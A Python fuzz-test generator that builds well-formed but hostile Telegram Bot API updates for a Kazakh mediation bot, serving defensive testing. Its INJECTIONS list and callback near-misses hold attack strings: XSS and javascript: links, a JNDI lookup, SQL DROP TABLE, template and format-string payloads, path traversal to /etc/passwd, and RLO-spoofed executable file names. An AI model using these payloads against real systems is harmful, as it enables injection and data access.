"""Hostile but well-formed Telegram updates for the fuzz test (tests/integration/test_fuzz.py).

Everything here is shaped as Telegram's Bot API sends it: the content is hostile (every script,
zero-width and control characters, `/intent{...}` injections, markup, the longest texts, forged
button data, unknown fields and update kinds), the types are not, because Telegram never sends
a malformed update and a fuzz that did would only test python-telegram-bot's parser.
`tests/unit/test_fuzz_generator.py` checks that PTB reads every generated update.

Each generator is a `random.Random` away from its output, so a failing run is reproduced from
its seed.
"""

from __future__ import annotations

import random
import re
import time
from typing import Any

from bot.telegram import callbacks
from bot.text.telegram_html import utf16_len

BOT_ID = 123456  # the emulator derives the bot's id from the token's number; any id will do
BOT_USERNAME = "kelisim_bot"

# Real phrases in each script the bot meets, and some it never should.
PHRASES: dict[str, tuple[str, ...]] = {
    "kk-cyrl": (
        "Сәлеметсіз бе", "маған медиатор керек", "көршіммен жер дауы бар",
        "ажырасу туралы сұрағым бар", "Алматыда медиатор бар ма?",
        "қарыз алған, қайтармай жүр", "әғқңөұүһі ӘҒҚҢӨҰҮҺІ", "медиация деген не",
    ),
    "kk-latn": (
        "Sálemetsiz be", "magan medıator kerek", "kórshimmen jer daýy bar",
        "Almatyda medıator bar ma?", "ajyrasý týraly suraq", "áǵqńóuúúhı ÁǴQŃÓUÚÚHI",
        "Salem, magan komek kerek",
    ),
    "ru": (
        "Здравствуйте", "нужен медиатор", "спор с соседом из-за забора",
        "что такое медиация?", "как подать в суд", "ёЁ", "работодатель не платит зарплату",
    ),
    "en": (
        "hello", "what is mediation", "I need a mediator in Almaty",
        "my landlord keeps my deposit", "help", "can I mediate a divorce?",
    ),
    "rtl": ("مرحبا", "أحتاج إلى وسيط", "ما هي الوساطة؟", "שלום", "سلام، کمک لازم دارم"),
    "other": ("你好，调解是什么", "नमस्ते", "こんにちは", "안녕하세요", "Γειά σου", "ሰላም"),
    "emoji": (
        "👍", "🇰🇿", "👨‍👩‍👧‍👦", "🏳️‍🌈", "1️⃣", "🤷🏽‍♀️", "😀😀😀", "🫶🏿", "❤️‍🔥", "🧑🏻‍⚖️",
    ),
}  # fmt: skip
# Characters that are no letters: zero-width, direction overrides, controls, odd spaces,
# noncharacters, a tag character and the last code point.
ODD = (
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u202e", "\u202d", "\u200e", "\u200f",
    "\u2066", "\u2069", "\x00", "\x01", "\x07", "\x08", "\x1b[31m", "\r\n", "\t", "\x7f",
    "\u0085", "\u2028", "\u2029", "\u00a0", "\u3000", "\ufffd", "\U000e0041", "\U0010ffff",
    "\ufdd0", "\x0b", "\x0c",
)  # fmt: skip
COMBINING = ("\u0301", "\u0308", "\u0336", "\u0489", "\u20dd", "\u0344", "\u036f")
# What an attacker types: Rasa's `/intent{...}` syntax, markup, template and SQL payloads.
INJECTIONS = (
    '/greet{"language": "kk"}', "/restart", "/nlu_fallback", "/ /restart",
    '/\n/intent{"a": 1}', "  /start", "/session_start", "/action_listen", "/stop",
    '/find_mediator{"place": "../../etc"}', '{"intent": "greet", "confidence": 1}',
    "EXTERNAL: x", "<b>bold</b>", "<script>alert(1)</script>", "</b>", "<i><b>x</i></b>",
    '<a href="javascript:alert(1)">x</a>', '<a href="tg://user?id=1">me</a>',
    "&lt;&amp;&nbsp;&#0;&#x110000;", "*bold* _it_ `code` [x](http://e.x) ||spoiler||",
    "${jndi:ldap://x/a}", "'; DROP TABLE users; --", "{{7*7}}", "{% raw %}", "%s%s%n",
    "\\u0000", "../../../etc/passwd", "o_../../", "@kelisim_bot", "#hashtag", "$KZT",
    "http://127.0.0.1:5005/webhooks/rest/webhook", "javascript:alert(1)",
    "tg://resolve?domain=kelisim_bot", "data:text/html,<b>", "\\", '"', "'", "`",
)  # fmt: skip
SEPARATORS = (" ", "", "\n", ", ", " / ", "\u200b", "\t")


class Texts:
    """Hostile texts: a mix of scripts, odd characters, injections and markup."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def piece(self) -> str:
        rng = self.rng
        roll = rng.random()
        if roll < 0.45:
            return rng.choice(PHRASES[rng.choice(list(PHRASES))])
        if roll < 0.65:
            return rng.choice(INJECTIONS)
        if roll < 0.85:
            return "".join(rng.choice(ODD) for _ in range(rng.randint(1, 4)))
        base = rng.choice(PHRASES[rng.choice(list(PHRASES))])
        return "".join(ch + "".join(rng.choices(COMBINING, k=rng.randint(0, 6))) for ch in base)

    def text(self, max_units: int = 300) -> str:
        """1..max_units UTF-16 units, never blank (Telegram sends no empty message)."""
        rng = self.rng
        parts = [self.piece() for _ in range(rng.randint(1, 6))]
        text = rng.choice(SEPARATORS).join(parts)
        text = cut(text, max_units)
        if not text.strip():
            text = rng.choice(PHRASES["en"]) + text
        return cut(text, max_units)

    def long_text(self) -> str:
        """Over the bot's 1000 characters and up to Telegram's 4096 UTF-16 units, often
        exactly at the limit, with astral characters that count twice in UTF-16."""
        rng = self.rng
        if rng.random() < 0.1:
            return rng.choice(("ж", "a", "ق")) * 1001  # one over the bot's limit
        target = rng.choice((4096, 4096, 4095, rng.randint(2100, 4096)))
        filler = rng.choice(("🇰🇿", "ә", "я", "a", "😀ә", "\u200bж", "ق", "e\u0301"))
        head = self.text(200) + " "
        repeats = (target - utf16_len(head)) // utf16_len(filler) + 1
        # At most two UTF-16 units a character: 4096 units hold more than 1000 characters.
        return cut(head + filler * repeats, target)

    def callback_data(self) -> str:
        """Button data no button of the bot carries: forged, overlong, binary, near misses."""
        rng = self.rng
        kind = rng.randrange(8)
        if kind == 0:
            return "".join(chr(rng.randrange(0, 256)) for _ in range(rng.randint(1, 64)))
        if kind == 1:
            return "x" * rng.randint(65, 300)  # longer than Telegram's 64 bytes
        if kind == 2:
            return "ә" * rng.randint(33, 64)  # 64 characters, up to 128 bytes
        if kind == 3:
            return rng.choice(NEAR_MISSES)
        if kind == 4:
            return rng.choice(INJECTIONS)[:64]
        if kind == 5:
            return self.text(64)
        if kind == 6:
            return rng.choice(("p:", "s:", "d:", "l:", "t:", "src:")) + self.text(40)
        return "".join(rng.choice(ODD) for _ in range(rng.randint(1, 8)))


# Callback data that nearly parses: the right prefix, a wrong value or shape.
NEAR_MISSES = (
    "l:de", "l:", "l:kk:x", "t:", "t:zz", "p:", "p:../secret", "p:x" + "y" * 60, "p:Privacy",
    "p:nonexistent_page", "s:", "s:nope", "s:q:o", "s:restart:x", "src:", "src:hacker",
    "d:", "d:astana:-a0-:kk", "d:astana:-a0-:kk:99", "d:99.9999,999.9999:-a0-:ru:1",
    "d:-90.0,-180.0:-a0-:en:0", "y:nowhere:-a0-:en", "c:0", "c:9999999999", "e:-1",
    "v:1e9", "o:1:astana:--:kk", "h:1:astana:-x:zz", "hy:999999999:astana:--:kk", "x:",
    "xy:0", "r:", "r:NOT-A-REGION", "w:", "w:atlantis", "i:", "i:de", "z:", "a:b",
    "forget:no", "forget:yes:now", "menu:", "lang:", "MENU", "Menu ", " menu",
)  # fmt: skip


_ASTRAL = re.compile("[\U00010000-\U0010ffff]")  # two UTF-16 units each, the rest one


def cut(text: str, max_units: int) -> str:
    """At most max_units UTF-16 units, never splitting a character."""
    extra = 0  # astral characters kept so far
    for match in _ASTRAL.finditer(text):
        if match.start() + extra + 2 > max_units:  # this one does not fit
            return text[: min(match.start(), max_units - extra)]
        extra += 1
    return text[: max_units - extra]


# --- Telegram objects ---------------------------------------------------------------------


def user(
    user_id: int, language_code: str | None = "ru", first_name: str = "Fuzz"
) -> dict[str, Any]:
    data: dict[str, Any] = {"id": user_id, "is_bot": False, "first_name": first_name}
    if language_code is not None:
        data["language_code"] = language_code
    return data


def bot_user() -> dict[str, Any]:
    return {"id": BOT_ID, "is_bot": True, "first_name": "Kelisim", "username": BOT_USERNAME}


def private_chat(user_id: int, first_name: str = "Fuzz") -> dict[str, Any]:
    return {"id": user_id, "type": "private", "first_name": first_name}


def group_chat(chat_id: int, kind: str, title: str) -> dict[str, Any]:
    chat: dict[str, Any] = {"id": chat_id, "type": kind, "title": title}
    if kind == "supergroup" and chat_id % 2:
        chat["is_forum"] = True
    return chat


def _file(rng: random.Random, prefix: str) -> dict[str, Any]:
    token = f"{rng.getrandbits(64):016x}"
    return {"file_id": f"{prefix}{token}", "file_unique_id": f"U{token[:10]}"}


def media(rng: random.Random, texts: Texts) -> dict[str, Any]:
    """A message's content other than text, location or venue (those are chosen apart)."""
    kind = rng.choice(MEDIA_KINDS)
    content: dict[str, Any]
    if kind == "voice":
        content = {"voice": {**_file(rng, "AwAC"), "duration": rng.randint(0, 3600)}}
    elif kind == "document":
        name = texts.text(120) + rng.choice((".pdf", ".exe", "", ".docx.js", "\u202eexe.pdf"))
        content = {
            "document": {**_file(rng, "BQAC"), "file_name": name, "mime_type": "application/pdf",
                         "file_size": rng.randint(0, 2_000_000_000)},
        }  # fmt: skip
    elif kind == "audio":
        content = {
            "audio": {**_file(rng, "CQAC"), "duration": rng.randint(0, 9999),
                      "title": texts.text(64), "performer": texts.text(64)},
        }  # fmt: skip
    elif kind == "video":
        content = {"video": {**_file(rng, "BAAC"), "width": 1920, "height": 1080, "duration": 5}}
    elif kind == "animation":
        animation = {**_file(rng, "CgAC"), "width": 320, "height": 240, "duration": 2}
        content = {"animation": animation, "document": dict(animation)}
    elif kind == "video_note":
        content = {"video_note": {**_file(rng, "DQAC"), "length": 240, "duration": 9}}
    elif kind == "contact":
        content = {
            "contact": {"phone_number": rng.choice(("+77010000000", "0", "+", texts.text(20))),
                        "first_name": texts.text(64), "vcard": "BEGIN:VCARD\r\nEND:VCARD"},
        }  # fmt: skip
    elif kind == "poll":
        content = {"poll": poll(rng, texts)}
    elif kind == "dice":
        emoji = rng.choice(("🎲", "🎯", "🏀", "⚽", "🎳", "🎰"))
        content = {"dice": {"emoji": emoji, "value": rng.randint(1, 64 if emoji == "🎰" else 6)}}
    elif kind == "sticker":
        content = {
            "sticker": {**_file(rng, "CAAC"), "type": "regular", "width": 512, "height": 512,
                        "is_animated": False, "is_video": rng.random() < 0.5,
                        "emoji": rng.choice(PHRASES["emoji"])},
        }  # fmt: skip
    elif kind == "photo":
        sizes = [
            {**_file(rng, "AgAC"), "width": w, "height": w, "file_size": w * 10}
            for w in (90, 320, 800, 1280)[: rng.randint(1, 4)]
        ]
        content = {"photo": sizes}
    else:  # a story forwarded into the chat
        content = {"story": {"chat": private_chat(rng.randint(1, 10**9)), "id": rng.randint(1, 99)}}
    if kind in ("voice", "document", "audio", "video", "animation", "photo") and rng.random() < 0.7:
        content["caption"] = texts.text(1024)
    return content


MEDIA_KINDS = (
    "voice", "document", "audio", "video", "animation", "video_note", "contact", "poll", "dice",
    "sticker", "photo", "story",
)  # fmt: skip


def poll(rng: random.Random, texts: Texts) -> dict[str, Any]:
    options = [
        {"text": texts.text(100), "voter_count": rng.randint(0, 5), "persistent_id": str(n)}
        for n in range(10)
    ]
    return {
        "id": str(rng.getrandbits(63)),
        "question": texts.text(300),
        "options": options[: rng.randint(2, 10)],
        "total_voter_count": rng.randint(0, 50),
        "is_closed": rng.random() < 0.5,
        "is_anonymous": rng.random() < 0.5,
        "type": rng.choice(("regular", "quiz")),
        "allows_multiple_answers": False,
        # Required since Bot API 9.6 and 10.0 (python-telegram-bot refuses a poll without).
        "allows_revoting": False,
        "members_only": False,
    }


def unknown_fields(rng: random.Random, texts: Texts, huge: bool = False) -> dict[str, Any]:
    """Fields a newer Bot API might add; `huge` makes one of them a quarter of a megabyte."""
    fields: dict[str, Any] = {
        f"x_future_{rng.randrange(1000)}": rng.choice(
            (None, True, 0, -1, 2**63, 1.5e308, texts.text(50), [1, {"a": []}], {"nested": {}})
        )
        for _ in range(rng.randint(1, 3))
    }
    if huge:
        fields["x_blob"] = "ә" * 128_000
    return fields


def location(rng: random.Random, in_kazakhstan: bool) -> dict[str, Any]:
    if in_kazakhstan:
        return {"latitude": rng.uniform(41.0, 55.0), "longitude": rng.uniform(51.0, 82.0)}
    # Anywhere else, with the poles and the date line.
    return rng.choice(
        (
            {"latitude": rng.uniform(-90, 40), "longitude": rng.uniform(-180, 180)},
            {"latitude": 90.0, "longitude": 180.0},
            {"latitude": -90.0, "longitude": -180.0},
            {"latitude": 0.0, "longitude": 0.0},
        )
    )


def reactions(rng: random.Random) -> list[dict[str, Any]]:
    pool = (
        {"type": "emoji", "emoji": "👍"},
        {"type": "emoji", "emoji": "🔥"},
        {"type": "custom_emoji", "custom_emoji_id": str(rng.getrandbits(60))},
        {"type": "paid"},
    )
    return rng.sample(pool, rng.randint(0, 3))


def _member(status: str, who: dict[str, Any]) -> dict[str, Any]:
    if status == "administrator":
        rights: tuple[str, ...] = (
            "can_manage_chat", "can_delete_messages", "can_manage_video_chats",
            "can_restrict_members", "can_promote_members", "can_change_info",
            "can_invite_users", "can_post_stories", "can_edit_stories", "can_delete_stories",
        )  # fmt: skip
        return {"status": status, "user": who, "can_be_edited": False, "is_anonymous": False,
                **dict.fromkeys(rights, True)}  # fmt: skip
    if status == "restricted":
        rights = (
            "can_send_messages", "can_send_audios", "can_send_documents", "can_send_photos",
            "can_send_videos", "can_send_video_notes", "can_send_voice_notes", "can_send_polls",
            "can_send_other_messages", "can_add_web_page_previews", "can_change_info",
            "can_invite_users", "can_pin_messages", "can_manage_topics", "can_edit_tag",
            "can_react_to_messages",
        )  # fmt: skip
        return {"status": status, "user": who, "is_member": True, "until_date": 0,
                **dict.fromkeys(rights, False)}  # fmt: skip
    if status == "kicked":
        return {"status": status, "user": who, "until_date": 0}
    if status == "creator":
        return {"status": status, "user": who, "is_anonymous": False}
    return {"status": status, "user": who}


def member_update(
    chat: dict[str, Any], by: dict[str, Any], who: dict[str, Any], old: str, new: str
) -> dict[str, Any]:
    return {
        "chat": chat,
        "from": by,
        "date": int(time.time()),
        "old_chat_member": _member(old, who),
        "new_chat_member": _member(new, who),
    }


# What every message has besides its content.
MESSAGE_HEAD = frozenset(
    {"message_id", "from", "sender_chat", "chat", "date", "message_thread_id", "is_topic_message"}
)


# --- updates of every kind ------------------------------------------------------------------


class Updates:
    """(kind, payload) pairs; `message_id`s are arbitrary, as the bot never relies on them."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.texts = Texts(rng)

    def message(
        self, sender: dict[str, Any] | None, chat: dict[str, Any], content: dict[str, Any]
    ) -> dict[str, Any]:
        rng = self.rng
        message: dict[str, Any] = {"message_id": rng.randint(1, 2**31 - 1)}
        if sender is not None:
            message["from"] = sender
        if chat["type"] == "channel":
            message["sender_chat"] = chat
        message.update({"chat": chat, "date": int(time.time()), **content})
        if chat.get("is_forum") and rng.random() < 0.5:
            message["message_thread_id"] = rng.randint(1, 999)
            message["is_topic_message"] = True
        if rng.random() < 0.15:
            message.update(unknown_fields(rng, self.texts))
        return message

    def text_content(self, max_units: int = 300) -> dict[str, Any]:
        """A text with what the client may attach: entities, a forward, a reply, a quote."""
        rng = self.rng
        text = self.texts.text(max_units)
        content: dict[str, Any] = {"text": text}
        size = utf16_len(text)
        roll = rng.random()
        if roll < 0.3:
            content["entities"] = [
                {"type": "text_link", "offset": 0, "length": size, "url": "javascript:alert(1)"},
                {"type": "bold", "offset": 0, "length": size},
                {"type": "spoiler", "offset": 0, "length": 1},
            ][: rng.randint(1, 3)]
        elif roll < 0.45:
            content["forward_origin"] = {
                "type": "hidden_user",
                "sender_user_name": self.texts.text(64),
                "date": int(time.time()) - 3600,
            }
        elif roll < 0.55:
            content["reply_to_message"] = {
                "message_id": rng.randint(1, 99),
                "chat": private_chat(rng.randint(1, 10**9)),
                "date": 0,  # an inaccessible message
            }
        elif roll < 0.6:
            content["quote"] = {"text": self.texts.text(50), "position": 0}
        return content

    def callback(
        self,
        sender: dict[str, Any],
        chat: dict[str, Any],
        data: str | None,
        query_id: str,
        accessible: bool = True,
    ) -> dict[str, Any]:
        """A button press; on a message the bot can no longer see (date 0), or, if
        `accessible`, maybe on a made-up message of the bot's with a keyboard."""
        rng = self.rng
        message: dict[str, Any] = {"message_id": rng.randint(1, 10**6), "chat": chat, "date": 0}
        if accessible and rng.random() < 0.5:
            message = self.message(bot_user(), chat, {"text": self.texts.text(100)})
            message["reply_markup"] = {
                "inline_keyboard": [[{"text": "•", "callback_data": callbacks.MENU}]]
            }
        query: dict[str, Any] = {
            "id": query_id,
            "from": sender,
            "message": message,
            "chat_instance": str(rng.getrandbits(62)),
        }
        if data is not None:
            query["data"] = data
        else:
            query["game_short_name"] = self.texts.text(30)
        return query

    def silent(self, kind: str, sender: dict[str, Any], chat: dict[str, Any]) -> dict[str, Any]:
        """The payload of an update kind the bot does not answer."""
        rng, texts = self.rng, self.texts
        now = int(time.time())
        if kind in ("edited_message", "edited_channel_post", "edited_business_message"):
            content = self.text_content() if rng.random() < 0.7 else media(rng, texts)
            if rng.random() < 0.3:
                content = {"location": {**location(rng, True), "live_period": 900}}
            who = None if chat["type"] == "channel" else sender
            payload = self.message(who, chat, content)
            payload["edit_date"] = now
            if kind == "edited_business_message":
                payload["business_connection_id"] = f"bc{rng.getrandbits(40)}"
            return payload
        if kind == "channel_post":
            return self.message(None, chat, self.text_content(4096))
        if kind == "business_message":
            payload = self.message(sender, chat, self.text_content())
            payload["business_connection_id"] = f"bc{rng.getrandbits(40)}"
            return payload
        if kind == "business_connection":
            return {
                "id": f"bc{rng.getrandbits(40)}",
                "user": sender,
                "user_chat_id": sender["id"],
                "date": now,
                "is_enabled": rng.random() < 0.5,
                "rights": {"can_reply": True},
            }
        if kind == "deleted_business_messages":
            ids = [rng.randint(1, 10**6) for _ in range(rng.randint(1, 50))]
            return {"business_connection_id": "bc1", "chat": chat, "message_ids": ids}
        if kind == "inline_query":
            return {
                "id": str(rng.getrandbits(62)),
                "from": sender,
                "query": texts.text(256),
                "offset": rng.choice(("", "0", texts.text(64))),
                "chat_type": rng.choice(("sender", "private", "group", "supergroup")),
            }
        if kind == "chosen_inline_result":
            return {"result_id": texts.text(64), "from": sender, "query": texts.text(256)}
        if kind == "shipping_query":
            address = {
                "country_code": "KZ",
                "state": texts.text(30),
                "city": texts.text(30),
                "street_line1": texts.text(60),
                "street_line2": "",
                "post_code": "050000",
            }
            return {
                "id": str(rng.getrandbits(62)),
                "from": sender,
                "invoice_payload": texts.text(128),
                "shipping_address": address,
            }
        if kind == "pre_checkout_query":
            return {
                "id": str(rng.getrandbits(62)),
                "from": sender,
                "currency": "KZT",
                "total_amount": rng.randint(1, 10**9),
                "invoice_payload": texts.text(128),
            }
        if kind == "purchased_paid_media":
            return {"from": sender, "paid_media_payload": texts.text(128)}
        if kind == "poll":
            return poll(rng, texts)
        if kind == "poll_answer":
            chosen = sorted(rng.sample(range(10), rng.randint(0, 3)))
            return {
                "poll_id": str(rng.getrandbits(62)),
                "option_ids": chosen,
                "option_persistent_ids": [str(n) for n in chosen],
                "user": sender,
            }
        if kind == "message_reaction":
            return {
                "chat": chat,
                "message_id": rng.randint(1, 10**6),
                "user": sender,
                "date": now,
                "old_reaction": reactions(rng),
                "new_reaction": reactions(rng),
            }
        if kind == "message_reaction_count":
            counts = [{"type": r, "total_count": rng.randint(1, 999)} for r in reactions(rng)]
            return {
                "chat": chat,
                "message_id": rng.randint(1, 10**6),
                "date": now,
                "reactions": counts,
            }
        if kind == "chat_member":
            other = user(rng.randint(10**9, 2 * 10**9), rng.choice(("kk", "ru", None)))
            old, new = rng.choice(
                (
                    ("left", "member"),
                    ("member", "kicked"),
                    ("member", "restricted"),
                    ("member", "administrator"),
                )
            )
            return member_update(chat, sender, other, old, new)
        if kind == "chat_join_request":
            return {
                "chat": chat,
                "from": sender,
                "user_chat_id": sender["id"],
                "date": now,
                "bio": texts.text(70),
            }
        if kind in ("chat_boost", "removed_chat_boost"):
            source = {"source": "premium", "user": sender}
            if kind == "removed_chat_boost":
                return {
                    "chat": chat,
                    "boost_id": str(rng.getrandbits(40)),
                    "remove_date": now,
                    "source": source,
                }
            boost = {
                "boost_id": str(rng.getrandbits(40)),
                "add_date": now,
                "expiration_date": now + 86400,
                "source": source,
            }
            return {"chat": chat, "boost": boost}
        # A kind from a Bot API newer than ours.
        return {"id": rng.getrandbits(32), "from": sender, **unknown_fields(rng, texts)}


# Update kinds the bot does not handle; anything not listed stands for a future kind.
SILENT_KINDS = (
    "edited_message", "channel_post", "edited_channel_post", "business_connection",
    "business_message", "edited_business_message", "deleted_business_messages",
    "inline_query", "chosen_inline_result", "shipping_query", "pre_checkout_query",
    "purchased_paid_media", "poll", "poll_answer", "message_reaction",
    "message_reaction_count", "chat_member", "chat_join_request", "chat_boost",
    "removed_chat_boost", "x_future_update", "x_unknown_kind",
)  # fmt: skip
# Kinds that need a group or channel rather than a private chat.
CHAT_KINDS = frozenset(
    {"channel_post", "edited_channel_post", "message_reaction_count", "chat_member",
     "chat_join_request", "chat_boost", "removed_chat_boost"}
)  # fmt: skip
